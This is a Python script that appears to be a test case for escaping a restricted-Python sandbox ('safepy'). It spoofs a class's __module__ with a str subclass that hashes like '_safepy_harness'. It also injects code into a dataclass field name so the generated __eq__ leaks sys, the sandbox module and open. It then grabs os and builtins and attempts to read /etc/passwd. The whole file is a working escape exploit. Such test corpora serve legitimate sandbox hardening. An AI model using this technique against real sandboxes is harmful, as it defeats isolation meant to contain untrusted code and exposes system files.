# technique: class __module__ set to a str subclass hashing like '_safepy_harness' so generated dataclass code resolves names in a privileged namespace
# expect: any
from dataclasses import dataclass, field
class M(str):
    def __hash__(self):
        return hash('_safepy_harness')
    def __eq__(self, o):
        return True
    def __ne__(self, o):
        return False
f1 = field(default=0)
class D:
    def __get__(self, inst, owner):
        f1.name = "a,setattr(self,'g',(sys,_safepy,open))"
        return 5
class C:
    __module__ = M('__main__')
    a: int = f1
    b: int = D()
C = dataclass(init=False, repr=False, eq=True)(C)
c = C(); c.a = 1; c.b = 2
c == C()
print(c.g)
sys=c.g[0]
print(sys.modules['os'])
os = sys.modules['os']
print(os.getpid())
b = sys.modules['builtins']
print(b.open, b.eval)
try:
    print(b.open('/etc/passwd').read()[:50])
except Exception as e: print('open:', type(e).__name__, e)
